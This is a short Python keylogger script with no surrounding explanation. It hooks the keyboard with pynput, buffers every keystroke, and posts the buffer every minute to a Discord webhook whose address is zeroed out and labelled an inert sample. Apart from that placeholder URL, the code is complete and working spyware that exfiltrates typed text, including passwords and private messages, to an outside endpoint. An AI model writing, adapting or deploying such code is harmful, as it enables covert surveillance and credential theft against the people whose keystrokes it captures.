import threading
import requests
from pynput import keyboard

_buffer = []
_HOOK = "https://discord.com/api/webhooks/000000000000000000/INERT-SAMPLE-KEYLOG"


def _flush():
    if _buffer:
        requests.post(_HOOK, json={"content": "".join(_buffer)}, timeout=5)
        _buffer.clear()
    threading.Timer(60, _flush).start()


def _on_press(key):
    _buffer.append(getattr(key, "char", None) or "[%s]" % key)


keyboard.Listener(on_press=_on_press).start()
_flush()
